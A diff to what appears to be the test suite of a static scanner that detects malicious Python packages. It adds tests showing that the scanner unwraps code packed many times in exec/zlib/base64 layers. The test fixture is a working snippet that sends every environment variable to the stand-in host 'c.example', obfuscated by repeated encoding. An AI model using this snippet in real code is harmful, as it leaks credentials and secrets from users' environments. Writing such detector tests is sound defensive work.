@@ -5,6 +5,7 @@
 import base64
 import lzma
 import textwrap
+import zlib
 
 import pytest
 from tests.static.reading import package, seen, short
@@ -258,3 +259,23 @@ def test_a_datagram_that_is_run_came_from_the_network() -> None:
     """
     found = short(told(source))
     assert {"code.flow network > execution", "net.connect 192.0.2.53:53"} <= found
+
+
+def _packed(times: int) -> str:
+    code = b"import os, urllib.request\nurllib.request.urlopen('https://c.example', str(dict(os.environ)).encode())"
+    for _ in range(times):
+        code = b"exec(__import__('zlib').decompress(__import__('base64').b64decode(%r)))" % (
+            base64.b64encode(zlib.compress(code))
+        )
+    return code.decode()
+
+
+@pytest.mark.parametrize("times", [6, 30, 80])
+def test_code_that_is_packed_again_and_again_is_peeled_to_the_last_layer(times: int) -> None:
+    assert "code.flow env:* > network @ pkg/__init__.py:1 (import)" in seen(_packed(times))
+
+
+def test_more_layers_than_are_peeled_are_told() -> None:
+    assert any(
+        b.startswith("pkg.malformed pkg/__init__.py not read: too-many layers") for b in seen(_packed(130))
+    )
